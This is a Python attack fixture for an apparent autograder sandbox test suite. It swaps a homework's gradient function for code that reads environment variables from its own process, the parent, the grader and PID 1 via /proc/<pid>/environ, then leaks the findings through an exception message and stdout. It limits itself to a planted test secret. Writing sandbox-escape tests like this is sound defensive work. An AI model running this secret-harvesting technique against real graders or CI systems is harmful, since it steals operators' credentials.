"""Attack `environment_secrets`: the hw2_affine reference with ComputeGradients replaced by the attack.

Looks for the grader's secrets (CI tokens, keys) in its own environment, its
parent's and the grader's /proc/<pid>/environ, and the namespace init's; sends
what it finds back in its feedback (an exception's message) and on stdout. A
real attacker would take every variable; this one reports only how many it
read and the one the test planted (GRADE_ATTACK_SECRET), so that the test never
copies a real credential into its output.

Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
"""
@HONEST@
@TOOLKIT@
def wrong_answer(L):
    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
    import numpy as np

    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]

GRADER_PID = int("@GRADER_PID@")


def planted(data):
    entries = [entry for entry in data.split(b"\0") if b"=" in entry]
    wanted = [entry.decode(errors="replace") for entry in entries if entry.startswith(b"GRADE_ATTACK_SECRET=")]
    return f"{len(entries)} variables, among them {wanted}"


def ComputeGradients(L, x, z):
    say("own environment:", planted(libc_read("/proc/self/environ") or b""), sorted(os.environ))
    found = []
    for pid in {os.getppid(), GRADER_PID, 1} - {0, os.getpid()}:
        path = f"/proc/{pid}/environ"
        try:
            with open(path, "rb") as handle:
                found.append(f"FOREIGN ENV (Python open) {path}: {planted(handle.read(1 << 20))}")
        except OSError as exc:
            say("python open", path, exc.strerror)
        data = libc_read(path)
        if data:
            found.append(f"FOREIGN ENV (libc open) {path}: {planted(data)}")
    for line in found:
        say(line)
    if found:
        raise RuntimeError(" | ".join(found)[:1500])
    return None
